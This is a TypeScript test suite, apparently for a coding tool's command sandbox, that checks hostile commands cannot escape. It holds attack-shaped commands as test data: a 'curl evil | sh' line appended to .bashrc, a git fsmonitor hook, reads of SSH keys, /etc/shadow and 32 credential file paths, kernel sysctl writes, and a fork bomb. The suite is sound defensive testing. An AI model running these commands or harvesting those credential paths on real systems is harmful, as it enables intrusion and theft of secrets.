import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { closeSync, openSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, expect, it } from 'vitest';
import type { SuiteContext } from './backend-suite.js';
import { git, hashTree, makeRepo, pidsWithArg, tempDir } from './fixtures.js';

// Outside /tmp (which every sandbox gets privately), so commands see these read-only and a write
// that lands proves an escape rather than a missing directory.
const OUTSIDE_ROOT = '/var/tmp';
const MB = 1024 * 1024;

/** `node -e` for commands: the same binary as ours, visible read-only in every view. */
function nodeCommand(script: string): string {
  return `${JSON.stringify(process.execPath)} -e ${JSON.stringify(script)}`;
}

/** A command that connects to 127.0.0.1:`port` and prints "connected" or the error code. */
function connectCommand(port: number): string {
  return nodeCommand(
    `const s=require('net').connect(${port},'127.0.0.1');s.on('connect',()=>{console.log('connected');s.end()});` +
      `s.on('error',e=>{console.log('failed '+e.code);process.exitCode=3})`,
  );
}

/**
 * A command that opens a CONNECT tunnel through HTTPS_PROXY, as package managers and git do, and
 * prints the status line and what comes back (`status|body`).
 */
function tunnelCommand(target: string): string {
  return nodeCommand(
    `const u=new URL(process.env.HTTPS_PROXY);` +
      `const s=require('net').connect(Number(u.port),u.hostname,()=>s.write('CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n'));` +
      `let out='';s.on('data',d=>out+=d);` +
      `s.on('end',()=>{const [head,...body]=out.split('\\r\\n\\r\\n');console.log(head.split('\\r\\n')[0]+'|'+body.join('').trim())});` +
      `s.on('error',e=>console.log('failed '+e.code))`,
  );
}

const INHERITED_FD_CHILD = path.join(path.dirname(fileURLToPath(import.meta.url)), 'inherited-fd-child.ts');

/**
 * Runs `script` (lines) in a sandbox of `backend` over `repo` from a node process that its parent
 * left descriptors open in (`open`: its descriptor number → ours, closed here once passed), without
 * close-on-exec, as a shell or a service manager may leave them to the CLI. The run's result.
 */
async function runWithInherited(repo: string, backend: string, open: Record<number, number>, script: string[]): Promise<{ stdout: string; stderr: string }> {
  const stateDir = await tempDir('ic-state-');
  // Ours close on exec; a stdio slot is dup2'd into the child without it.
  const stdio: Array<'ignore' | 'pipe' | number> = ['ignore', 'pipe', 'pipe'];
  for (const [at, fd] of Object.entries(open)) {
    while (stdio.length < Number(at)) stdio.push('ignore');
    stdio[Number(at)] = fd;
  }
  const child = spawn(process.execPath, ['--import', 'tsx', INHERITED_FD_CHILD, repo, stateDir, backend, script.join('\n')], {
    cwd: path.resolve(path.dirname(INHERITED_FD_CHILD), '../../../..'),
    stdio,
  });
  for (const fd of Object.values(open)) closeSync(fd);
  let out = '';
  let err = '';
  child.stdout!.on('data', (b: Buffer) => (out += b.toString()));
  child.stderr!.on('data', (b: Buffer) => (err += b.toString()));
  const [code] = (await once(child, 'close')) as [number | null];
  if (code !== 0) throw new Error(`the sandbox's host process failed (${code}): ${err}`);
  return JSON.parse(out) as { stdout: string; stderr: string };
}

async function listen(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const addr = server.address();
  if (addr === null || typeof addr === 'string') throw new Error('no port');
  return addr.port;
}

/**
 * What a hostile command tries against the machine: every write outside its sandbox, reading
 * credentials, the network, exhausting processes, huge files, and racing the file tools with
 * symlinks. Each must fail while the sandbox keeps working.
 */
export function registerConfinementTests(s: SuiteContext): void {
  let home: string;
  let outside: string;
  let savedHome: string | undefined;
  const servers: Server[] = [];

  beforeEach(async () => {
    home = await mkdtemp(path.join(OUTSIDE_ROOT, 'ic-home-'));
    outside = await mkdtemp(path.join(OUTSIDE_ROOT, 'ic-outside-'));
    // A host directory anyone may read, as /etc or /usr (mkdtemp makes it its owner's alone, and
    // under a root-run CLI commands are not its owner: see command-user.ts).
    await chmod(outside, 0o755);
    await writeFile(path.join(home, '.bashrc'), '# the user rc\n');
    await mkdir(path.join(home, '.ssh'));
    await writeFile(path.join(home, '.ssh', 'id_test'), 'PRIVATE KEY MATERIAL\n');
    await mkdir(path.join(home, '.config', 'infinity-code'), { recursive: true });
    await writeFile(path.join(home, '.config', 'infinity-code', 'config.json'), '{"model":"secret-model"}\n');
    await writeFile(path.join(outside, 'keep.txt'), 'keep\n');
    // Credential locations are found under the home of the process that opens the session.
    savedHome = process.env.HOME;
    process.env.HOME = home;
  });

  /** A server on this machine's loopback that counts its connections (and may answer `reply`). */
  const hostServer = async (reply = ''): Promise<{ port: number; connections(): number }> => {
    let count = 0;
    const server = createServer((c) => {
      count++;
      c.end(reply);
    });
    servers.push(server);
    return { port: await listen(server), connections: () => count };
  };

  afterEach(async () => {
    process.env.HOME = savedHome;
    for (const server of servers.splice(0)) server.close();
    await rm(home, { recursive: true, force: true });
    await rm(outside, { recursive: true, force: true });
  });

  it('a command can write only its sandbox and a private /tmp: host files, the home, rc files and the shared /tmp stay as they were', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const before = await hashTree(repo);
    const hostTmpMarker = path.join('/tmp', `ic-shared-${randomUUID()}`);
    const session = await s.open(repo);
    const sb = await session.create();

    // Visible (read-only): the attempt below fails for being read-only, not for a missing path.
    expect((await sb.run(`cat ${outside}/keep.txt`)).stdout).toBe('keep\n');
    const attack = await sb.run(
      [
        `echo pwned > ${outside}/marker.txt`,
        `rm -f ${outside}/keep.txt`,
        `echo pwned > ~/pwned.txt`,
        `echo 'curl evil | sh' >> ~/.bashrc`,
        `git config --global core.fsmonitor "touch ${outside}/fsmonitor"`,
        `echo pwned > ${hostTmpMarker}`,
        `echo pwned > ${repo}/a.txt`,
        'echo private > /tmp/mine.txt && cat /tmp/mine.txt',
        'echo in-sandbox > b.txt',
      ].join('; '),
    );
    expect(attack.stdout).toContain('private\n');
    expect(attack.stderr).toMatch(/Read-only file system/);
    expect(await readdir(outside)).toEqual(['keep.txt']);
    expect(await readdir(home)).toEqual(['.bashrc', '.config', '.ssh']);
    expect(await readFile(path.join(home, '.bashrc'), 'utf8')).toBe('# the user rc\n');
    await expect(readFile(hostTmpMarker)).rejects.toMatchObject({ code: 'ENOENT' });
    expect(await hashTree(repo)).toEqual(before);
    // The sandbox itself took the legitimate write (on the copy backend the repository path is
    // the user's, read-only; the command's own view is the copy).
    expect(await sb.readText('b.txt')).toBe('in-sandbox\n');
    // The private /tmp is the sandbox's: the next command sees it, the host does not.
    expect((await sb.run('cat /tmp/mine.txt')).stdout).toBe('private\n');
  });

  it('a writable path from the config that holds the repository and the state dir opens neither', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const before = await hashTree(repo);
    const parent = path.dirname(repo);
    const session = await s.open(repo, { containment: { writable: [parent, home] } });
    const sb = await session.create();
    const stateDir = path.dirname(path.dirname(session.ctx.sessionDir));
    const marker = `ic-allowed-${randomUUID()}`;
    const r = await sb.run(
      `echo allowed > ${parent}/${marker}; echo home-too > ~/${marker}; echo pwned > ${repo}/a.txt; echo pwned > ${stateDir}/planted; ` +
        `ls -A ${stateDir}/sessions | wc -l; cat ~/.ssh/id_test; echo end`,
    );
    expect(await readFile(path.join(parent, marker), 'utf8')).toBe('allowed\n');
    // A home the user made writable is writable, hidden (but by its credentials) or not.
    expect(await readFile(path.join(home, marker), 'utf8')).toBe('home-too\n');
    await rm(path.join(parent, marker));
    expect(await hashTree(repo)).toEqual(before);
    await expect(readFile(path.join(stateDir, 'planted'))).rejects.toMatchObject({ code: 'ENOENT' });
    expect(r.stdout).not.toContain('PRIVATE KEY');
    expect(r.stdout).toMatch(/(^|\n)1\nend\n$/);
  });

  it('credential locations and the sandbox state are hidden from commands', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    // Another session's storage in the same state dir (another repository's sandboxes).
    const stateDir = path.dirname(path.dirname(session.ctx.sessionDir));
    await mkdir(path.join(stateDir, 'sessions', 'other'), { recursive: true });
    await writeFile(path.join(stateDir, 'sessions', 'other', 'their-code.txt'), 'OTHER REPOSITORY\n');
    const r = await sb.run(
      `cat ~/.ssh/id_test; ls -A ~/.ssh; cat ~/.config/infinity-code/config.json; ls -A ${stateDir}/sessions; ` +
        `cat ${stateDir}/sessions/other/their-code.txt; cat /etc/shadow | wc -c; echo end`,
    );
    expect(r.stdout).not.toContain('PRIVATE KEY');
    expect(r.stdout).not.toContain('secret-model');
    expect(r.stdout).not.toContain('OTHER REPOSITORY');
    expect(r.stdout).not.toContain('other');
    expect(r.stdout).toMatch(/(^|\n)0\nend\n$/);
  });

  it('the home is hidden from commands but for its toolchains and what the config lets them read: none of 32 credential files reaches them', async () => {
    // Where the tools people use keep their credentials (the built-in list once missed 18 of these).
    const planted = [
      '.claude/.credentials.json', '.codex/auth.json', '.config/git/credentials', '.pgpass', '.my.cnf',
      '.bash_history', '.zsh_history', '.python_history', '.config/github-copilot/hosts.json',
      '.cache/huggingface/token', '.config/rclone/rclone.conf', '.s3cfg', '.m2/settings.xml',
      '.gem/credentials', '.terraformrc', '.config/pip/pip.conf', '.pip/pip.conf',
      '.pulumi/credentials.json', '.config/op/config', '.gitconfig', '.ssh/id_rsa', '.aws/credentials',
      '.netrc', '.docker/config.json', '.kube/config', '.npmrc', '.pypirc', '.git-credentials',
      '.vault-token', '.config/gh/hosts.yml', '.gradle/gradle.properties', '.cargo/credentials.toml',
    ];
    expect(planted).toHaveLength(32);
    for (const rel of planted) {
      await mkdir(path.dirname(path.join(home, rel)), { recursive: true });
      // .gitconfig must stay valid: the test's own git reads it.
      const content = rel === '.gitconfig' ? '[url "https://me:SECRET-token@example.com/"]\n\tinsteadOf = https://example.com/\n' : `SECRET ${rel}\n`;
      await writeFile(path.join(home, rel), content);
    }
    // A toolchain a build needs, and a file the user lets commands read.
    await mkdir(path.join(home, '.cargo', 'bin'), { recursive: true });
    await writeFile(path.join(home, '.cargo', 'bin', 'tool'), 'toolchain\n');
    await mkdir(path.join(home, 'notes'));
    await writeFile(path.join(home, 'notes', 'shared.txt'), 'readable\n');
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { readable: [path.join(home, 'notes')] } });
    const sb = await session.create();
    const r = await sb.run(
      `cd ~ && for f in ${planted.join(' ')}; do cat "$f" 2>/dev/null; done; grep -rs SECRET ~ | wc -l; ` +
        `cat ~/.cargo/bin/tool ~/notes/shared.txt; echo x > ~/planted 2>/dev/null || echo read-only`,
    );
    expect(r.stdout).not.toContain('SECRET');
    expect(r.stdout).toBe('0\ntoolchain\nreadable\nread-only\n');
  });

  it('a readable directory (--add-dir) under /tmp or the home is shown read-only: commands read it and cannot write it, credentials and links to them stay hidden, their own /tmp stays writable', async () => {
    // Under the shared /tmp, which commands otherwise never see (theirs is private).
    const added = await tempDir('ic-added-', '/tmp');
    await writeFile(path.join(added, 'notes.txt'), 'ADDED NOTES\n');
    await symlink(path.join(home, '.ssh', 'id_test'), path.join(added, 'key-link'));
    await mkdir(path.join(home, 'other-project'));
    await writeFile(path.join(home, 'other-project', 'README'), 'OTHER PROJECT\n');
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const before = await hashTree(added);
    const own = `/tmp/ic-own-${randomUUID()}.txt`;
    const session = await s.open(repo, { containment: { readable: [added, home] } });
    const sb = await session.create();
    const r = await sb.run(
      `cat ${added}/notes.txt ~/other-project/README; ` +
        `echo pwned > ${added}/notes.txt 2>/dev/null || echo no-overwrite; ` +
        `touch ${added}/planted 2>/dev/null || echo no-create; rm -f ${added}/notes.txt 2>/dev/null; ` +
        `echo pwned > ~/other-project/README 2>/dev/null || echo no-home-write; ` +
        `cat ${added}/key-link ~/.ssh/id_test 2>/dev/null; ls -A ~/.ssh | wc -l; ` +
        `echo mine > ${own} && cat ${own}`,
    );
    expect(r.stdout).not.toContain('PRIVATE KEY');
    expect(r.stdout).toBe('ADDED NOTES\nOTHER PROJECT\nno-overwrite\nno-create\nno-home-write\n0\nmine\n');
    expect(await hashTree(added)).toEqual(before);
    expect(await readFile(path.join(home, 'other-project', 'README'), 'utf8')).toBe('OTHER PROJECT\n');
    // The private /tmp is still the sandbox's own: the host's has no such file.
    await expect(readFile(own)).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it("a token in the repository's remote URL does not reach commands; git in the sandbox still names the remote", async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const token = `ghp_${'Z'.repeat(36)}`;
    await git(repo, 'remote', 'add', 'origin', `https://x-access-token:${token}@github.com/o/r.git`);
    await git(repo, 'config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${token}`);
    const session = await s.open(repo);
    const sb = await session.create();
    const r = await sb.run('cat .git/config; git remote -v; grep -rs ghp_ .git | wc -l');
    expect(r.stdout).not.toContain(token);
    expect(r.stdout).toContain('origin\thttps://github.com/o/r.git (fetch)');
    expect(r.stdout).toMatch(/\n0\n$/);
  });

  it("a command's environment is an allowlist: a variable of ours it does not name stays out", async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    process.env.IC_TEST_DATABASE = 'postgres-host-and-db';
    process.env.STRIPE_SK = 'sk_live_' + 'x'.repeat(24);
    try {
      const r = await sb.run('env');
      expect(r.stdout).not.toContain('postgres-host-and-db');
      expect(r.stdout).not.toContain('sk_live_');
      expect(r.stdout).toMatch(/^PATH=/m);
      expect(r.stdout).toMatch(/^HOME=/m);
    } finally {
      delete process.env.IC_TEST_DATABASE;
      delete process.env.STRIPE_SK;
    }
  });

  it('no Unix socket of the machine answers a command (its /run, the home, anywhere else, open to anyone), while sockets a command makes in its sandbox work', async () => {
    const sockets: string[] = [];
    const listenAt = async (p: string): Promise<boolean> => {
      const server = createServer((c) => c.end('answered\n'));
      servers.push(server);
      server.listen(p);
      // Not allowed to (/run as an unprivileged user): that place is then not tried.
      const ok = await new Promise<boolean>((resolve) => {
        server.once('listening', () => resolve(true));
        server.once('error', () => resolve(false));
      });
      if (ok) sockets.push(p);
      return ok;
    };
    // /run is root's (a service's socket there, docker.sock say); the home is anyone's.
    const inRun = path.join('/run', `ic-test-${randomUUID()}.sock`);
    const runOk = await listenAt(inRun);
    await listenAt(path.join(home, 'agent.sock'));
    // Anywhere else the view shows, open to anyone: neither a cover nor its owner keeps it closed,
    // the read-only overlay commands see the machine through does (command-root.ts).
    const open = path.join(outside, 'anyone.sock');
    expect(await listenAt(open)).toBe(true);
    await chmod(open, 0o777);
    try {
      const repo = await makeRepo({ 'a.txt': 'a\n' });
      const session = await s.open(repo);
      const sb = await session.create();
      const probe = (p: string): string =>
        nodeCommand(
          `const s=require('net').connect(${JSON.stringify(p)});s.on('data',d=>process.stdout.write(d));` +
            `s.on('error',e=>console.log('refused '+e.code))`,
        );
      const r = await sb.run(sockets.map(probe).join('; '));
      expect(r.stdout).not.toContain('answered');
      expect(r.stdout.match(/refused /g)).toHaveLength(sockets.length);
      expect(sockets.length).toBe(2 + Number(runOk));
      // A server the sandbox runs on a socket in its own /tmp answers the next command.
      const own = await sb.exec(
        nodeCommand(`require('net').createServer(c=>c.end('own\\n')).listen('/tmp/own.sock',()=>console.log('up'))`),
      );
      await new Promise<void>((resolve) => own.stdout.on('data', (d: Buffer) => d.toString().includes('up') && resolve()));
      expect((await sb.run(probe('/tmp/own.sock'))).stdout).toBe('own\n');
      own.kill();
      await own.done;
    } finally {
      for (const p of sockets) await rm(p, { force: true });
    }
  });

  it("the machine's root is read-only to a command: no file directly in / can be written, and no entry made there", async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    // Under a user's CLI, / is a skeleton (command-root.ts): its own directory, its files bound
    // one by one; that directory and those binds must be read-only like the rest.
    const r = await sb.run(
      'for f in /* /.[!.]*; do if [ -f "$f" ] && [ ! -L "$f" ] && { printf x >> "$f"; } 2>/dev/null; then echo "wrote $f"; fi; done; ' +
        'for p in /ic-made /usr/ic-made; do if true > "$p" 2>/dev/null || mkdir "$p" 2>/dev/null; then echo "made $p"; fi; done; ls -d /usr /etc >/dev/null && echo seen',
    );
    expect(r.stdout).toBe('seen\n');
  });

  it('what covers the state dir, the home and credential directories is read-only: no command can fill memory there', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    const stateDir = path.dirname(path.dirname(session.ctx.sessionDir));
    const r = await sb.run(
      `for d in ${stateDir} ~ ~/.ssh /run; do head -c 1000000 /dev/zero > "$d/fill" 2>/dev/null && echo "filled $d" || echo refused; done`,
    );
    expect(r.stdout).toBe('refused\nrefused\nrefused\nrefused\n');
  });

  it("the kernel's settings are read-only to commands, even as uid 0: no sysctl write (core_pattern, domainname) lands, kernel memory and keys stay hidden", async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    const domainBefore = await readFile('/proc/sys/kernel/domainname', 'utf8');
    try {
      // core_pattern is written with the value it has, so that even a failing run changes nothing;
      // the error shows the write was refused. domainname gets a marker.
      const r = await sb.run(
        'cat /proc/sys/kernel/core_pattern > /tmp/cp; cat /tmp/cp > /proc/sys/kernel/core_pattern 2>&1; echo "core=$?"; ' +
          'echo ic-escaped > /proc/sys/kernel/domainname 2>&1; echo "domain=$?"; ' +
          'cat /proc/sys/kernel/hostname >/dev/null && echo readable; ' +
          '[ -e /proc/kcore ] && head -c 1 /proc/kcore | wc -c; [ -e /proc/keys ] && wc -c < /proc/keys; echo end',
      );
      expect(r.stdout).toMatch(/core=[1-9]/);
      expect(r.stdout).toMatch(/domain=[1-9]/);
      expect(r.stdout).toContain('readable');
      expect(r.stdout).not.toMatch(/^[1-9]\d*$/m);
      expect(await readFile('/proc/sys/kernel/domainname', 'utf8')).toBe(domainBefore);
    } finally {
      if ((await readFile('/proc/sys/kernel/domainname', 'utf8')) !== domainBefore) await writeFile('/proc/sys/kernel/domainname', domainBefore);
    }
  });

  it("a command is never the host's root: seen from the host its processes are unprivileged; as root, root's private files and sockets stay closed to it", async () => {
    const me = process.getuid?.();
    const secret = path.join(outside, 'root-only.key');
    await writeFile(secret, 'ROOT ONLY\n', { mode: 0o600 });
    // Outside /run and the home, which are covered: only ownership keeps a command from it.
    const socket = path.join(outside, 'service.sock');
    const server = createServer((c) => c.end('answered\n'));
    servers.push(server);
    await new Promise<void>((resolve) => server.listen(socket, resolve));
    await chmod(socket, 0o600);
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();
    // A process with an argument no other has, found from the host by its command line; it says
    // "up" once it runs with that command line.
    const arg = `ic-uid-probe-${randomUUID()}`;
    const bg = await sb.exec(`exec ${nodeCommand("console.log('up'); setInterval(() => {}, 60000)")} ${arg}`);
    await new Promise<void>((resolve) => bg.stdout.on('data', (d: Buffer) => d.toString().includes('up') && resolve()));
    const uids: number[] = [];
    for (const pid of await pidsWithArg(arg)) {
      const status = await readFile(`/proc/${pid}/status`, 'utf8');
      uids.push(...(/^Uid:\s+(.*)$/m.exec(status)![1].split(/\s+/).map(Number)));
    }
    bg.kill();
    await bg.done;
    expect(uids).toHaveLength(4);
    if (me !== 0) {
      // A user's command is that user: the user namespace's root is the user, no more.
      expect(new Set(uids)).toEqual(new Set([me]));
      return;
    }
    expect(uids.every((u) => u !== 0), `host uids ${uids.join(' ')}`).toBe(true);
    const r = await sb.run(
      `cat ${secret} 2>/dev/null || echo unreadable; ` +
        nodeCommand(
          `const s=require('net').connect(${JSON.stringify(socket)});s.on('data',d=>process.stdout.write(d));` +
            `s.on('error',e=>console.log('refused '+e.code))`,
        ),
    );
    expect(r.stdout).toMatch(/^unreadable\nrefused E(ACCES|CONNREFUSED)\n$/);
    // What the file tools (root here) create is the command user's to change, directories too.
    await sb.writeFile('made/by-tool.txt', 'tool\n');
    const own = await sb.run('echo command >> made/by-tool.txt && touch made/beside.txt && cat made/by-tool.txt');
    expect(own.stdout, own.stderr).toBe('tool\ncommand\n');
  });

  it('descriptors the process running the sandbox inherited reach no command: a directory left open leads nowhere, a file left open takes nothing', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const log = path.join(outside, 'host.log');
    await writeFile(log, 'host log\n');
    // What a parent might leave open: a host directory and a log file, past 15 and a gap (Node
    // marks 0-15, and any run of descriptors right after them, close-on-exec as it starts).
    const run = await runWithInherited(repo, s.backend, { 20: openSync(outside, 'r'), 24: openSync(log, 'a') }, [
      // The shell's descriptors, each with where it leads (readlink, not $(…), whose pipe the shell would hold).
      'for f in /proc/$$/fd/*; do printf "fd %s " "${f##*/}"; readlink "$f" || echo; done',
      'echo pwned > /proc/self/fd/20/escaped.txt; echo "through-dir=$?"',
      '(cd /proc/self/fd/20 && echo pwned > escaped-cd.txt); echo "cd-dir=$?"',
      'echo pwned >> /proc/self/fd/24; echo end',
    ]);
    expect(run.stdout, run.stderr).toContain('end\n');
    expect(run.stdout).toMatch(/through-dir=[1-9]/);
    expect(run.stdout).toMatch(/cd-dir=[1-9]/);
    // The inherited ones are gone or /dev/null (the listing's own directory is gone by then).
    const fds = [...run.stdout.matchAll(/^fd (\d+) (.*)$/gm)].map((m) => ({ fd: Number(m[1]), to: m[2] }));
    expect(fds.map((f) => f.fd)).toEqual(expect.arrayContaining([0, 1, 2]));
    for (const { fd, to } of fds.filter((f) => f.fd > 2)) expect([fd, to]).toEqual([fd, expect.stringMatching(/^(\/dev\/null|\/proc\/.*)?$/)]);
    expect(await readdir(outside)).toEqual(['host.log', 'keep.txt']);
    expect(await readFile(log, 'utf8')).toBe('host log\n');
  });

  it('has no network by default: the host loopback is unreachable, a server a command starts is reachable only from the sandbox', async () => {
    const host = await hostServer();
    const port = host.port;
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo);
    const sb = await session.create();

    const blocked = await sb.run(connectCommand(port));
    expect(blocked.stdout).toMatch(/^failed E(CONNREFUSED|NETUNREACH)/);
    expect(host.connections()).toBe(0);

    // A server on 0.0.0.0 inside: the next command of the sandbox reaches it, the host does not.
    const inner = await sb.exec(
      nodeCommand(`require('net').createServer(c=>c.end('hello from inside\\n')).listen(${port},'0.0.0.0',()=>console.log('up'))`),
    );
    await once(inner.stdout, 'data');
    expect((await sb.run(connectCommand(port))).stdout).toBe('connected\n');
    inner.kill();
    await inner.done;
    expect(host.connections()).toBe(0);

    // Opened for one command the user approved: the host's loopback answers.
    const approved = await sb.run(connectCommand(port), { network: true });
    expect(approved.stdout).toBe('connected\n');
    expect(host.connections()).toBe(1);
  });

  it('with network "on" commands share the machine network', async () => {
    const host = await hostServer();
    const port = host.port;
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { network: 'on' } });
    const sb = await session.create();
    expect((await sb.run(connectCommand(port))).stdout).toBe('connected\n');
    expect(host.connections()).toBe(1);
  });

  it('with a domain allowlist commands reach only those domains, through the proxy their environment names', async () => {
    const host = await hostServer('hello through the proxy\n');
    const port = host.port;
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    // The host server stands in for a registry: on loopback and a port of its own, which the proxy
    // refuses unless told otherwise (see the test below).
    const session = await s.open(repo, { containment: { network: { allow: ['127.0.0.1'], extraPorts: [port], privateAddresses: true } } });
    const sb = await session.create();
    const allowed = await sb.run(tunnelCommand(`127.0.0.1:${port}`));
    expect(allowed.stdout).toBe('HTTP/1.1 200 Connection Established|hello through the proxy\n');
    expect(host.connections()).toBe(1);
    const denied = await sb.run(tunnelCommand('example.org:443'));
    expect(denied.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden\|.*example\.org is not in the sandbox's network allowlist/);
    // Around the proxy there is no way out.
    expect((await sb.run(connectCommand(port))).stdout).toMatch(/^failed E(CONNREFUSED|NETUNREACH)/);
    expect(host.connections()).toBe(1);
  });

  it('with a domain allowlist an allowed name that leads to this machine is refused, as a tunnel and as a plain request', async () => {
    const host = await hostServer('a host listener\n');
    const port = host.port;
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    // The port is let through, so what is refused is the address the names resolve to.
    const session = await s.open(repo, { containment: { network: { allow: ['localhost', '127.0.0.1', '::ffff:7f00:1'], extraPorts: [port] } } });
    const sb = await session.create();
    const byName = await sb.run(tunnelCommand(`localhost:${port}`));
    expect(byName.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden\|Infinity Code: localhost resolves to (127\.0\.0\.1|::1), a loopback address .*sandbox\.networkPrivateAddresses/);
    const literal = await sb.run(tunnelCommand(`127.0.0.1:${port}`));
    expect(literal.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden\|Infinity Code: 127\.0\.0\.1 is a loopback address/);
    const mapped = await sb.run(tunnelCommand(`[::ffff:127.0.0.1]:${port}`));
    expect(mapped.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden\|Infinity Code: ::ffff:7f00:1 is a loopback address/);
    const plain = await sb.run(
      nodeCommand(
        `const u=new URL(process.env.HTTP_PROXY);` +
          `require('http').get({host:u.hostname,port:Number(u.port),path:'http://localhost:${port}/'},r=>{let b='';r.on('data',d=>b+=d);r.on('end',()=>console.log(r.statusCode+'|'+b.trim()))})` +
          `.on('error',e=>console.log('failed '+e.code))`,
      ),
    );
    expect(plain.stdout).toMatch(/^403\|Infinity Code: localhost resolves to (127\.0\.0\.1|::1), a loopback address/);
    expect(host.connections()).toBe(0);
  });

  it('with a domain allowlist only ports 80 and 443 are let through unless the containment names more', async () => {
    const host = await hostServer('a host listener\n');
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    // Local addresses are let through here, so what is refused is the port alone.
    const session = await s.open(repo, { containment: { network: { allow: ['localhost', '127.0.0.1'], privateAddresses: true } } });
    const sb = await session.create();
    for (const target of [`127.0.0.1:${host.port}`, 'localhost:22']) {
      const r = await sb.run(tunnelCommand(target));
      expect(r.stdout).toMatch(/^HTTP\/1\.1 403 Forbidden\|Infinity Code: port \d+ of (127\.0\.0\.1|localhost) is refused.*sandbox\.networkExtraPorts/);
    }
    expect(host.connections()).toBe(0);
  });

  it('a fork bomb hits the process limit: the command fails, nothing outlives it, the sandbox goes on', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { limits: { processes: 64 } } });
    const sb = await session.create();
    const tag = `${1000 + Math.floor(Math.random() * 9000)}.${Date.now() % 1000000}`;
    let peak = 0;
    const sampler = setInterval(() => {
      void pidsWithArg(tag).then((p) => (peak = Math.max(peak, p.length)));
    }, 20);
    try {
      const bomb = await sb.run(`i=0; while [ $i -lt 500 ]; do sleep ${tag} & i=$((i+1)); done; echo spawned-all`);
      expect(bomb.exitCode).not.toBe(0);
      expect(bomb.stdout).not.toContain('spawned-all');
      expect(bomb.stderr).toMatch(/fork|Resource temporarily unavailable/i);
    } finally {
      clearInterval(sampler);
    }
    expect(peak).toBeLessThanOrEqual(64);
    expect(await pidsWithArg(tag)).toEqual([]);
    expect((await sb.run('echo still-alive')).stdout).toBe('still-alive\n');
  });

  it('a file larger than the file-size limit cannot be written', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { limits: { fileSizeBytes: 1_000_000 } } });
    const sb = await session.create();
    const r = await sb.run('head -c 2000000 /dev/zero > big.bin; echo rc=$?; wc -c < big.bin');
    expect(r.stdout).toMatch(/rc=(1|153)\n1000000\n/);
  });

  it("a sandbox's /tmp and /dev/shm hold at most a quarter of its memory limit each, across commands: past it a write fails with ENOSPC, and the sandbox goes on", async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    // 256 MB of memory: 64 MB each.
    const session = await s.open(repo, { containment: { limits: { memoryBytes: 256 * MB } } });
    const sb = await session.create();
    for (const dir of ['/tmp', '/dev/shm']) {
      expect((await sb.run(`head -c ${40 * MB} /dev/zero > ${dir}/first && echo wrote`)).stdout).toBe('wrote\n');
      // The next command finds the first one's file there (it outlived its command and its cgroup):
      // only what is left of the size fits.
      const second = await sb.run(`head -c ${40 * MB} /dev/zero > ${dir}/second; wc -c < ${dir}/second`);
      expect(second.stderr).toMatch(/No space left on device/);
      expect(40 * MB + Number(second.stdout.trim())).toBeLessThanOrEqual(64 * MB);
      const again = await sb.run(`rm ${dir}/first ${dir}/second && head -c ${40 * MB} /dev/zero > ${dir}/again && echo wrote && rm ${dir}/again`);
      expect(again.stdout, again.stderr).toBe('wrote\n');
    }
  });

  it('a command that writes past the disk limit into the repository is stopped with a clear error; nothing can grow until files are deleted, then the sandbox goes on', async () => {
    const repo = await makeRepo({ 'a.txt': 'a\n' });
    const session = await s.open(repo, { containment: { limits: { diskBytes: 8 * MB } } });
    const sb = await session.create();
    // 4096 chunks of 64 KB: 256 MB where nothing stops it, in thousands of short steps, so it is
    // still writing when the sandbox is next looked at.
    const r = await sb.run('i=0; while [ $i -lt 4096 ]; do head -c 65536 /dev/zero >> big.bin || exit 9; i=$((i+1)); done; echo wrote-all');
    expect(r.stdout).not.toContain('wrote-all');
    expect(r.diskLimit).toMatch(/^Stopped: the sandbox's storage went over its disk limit of 8 MB \(sandbox\.limits\.diskMB\)\. Delete files/);
    // Over the limit, commands still run (to delete) but can grow no file, and file writes are refused.
    const grow = await sb.run('head -c 1024 /dev/zero >> big.bin; echo rc=$?; echo fresh > other.txt; echo rc=$?');
    expect(grow.stdout).toBe('rc=1\nrc=1\n');
    expect(grow.stderr).toMatch(/File too large/);
    expect(grow.diskLimit).toMatch(/over its disk limit of 8 MB \(sandbox\.limits\.diskMB\), so this command could not grow any file/);
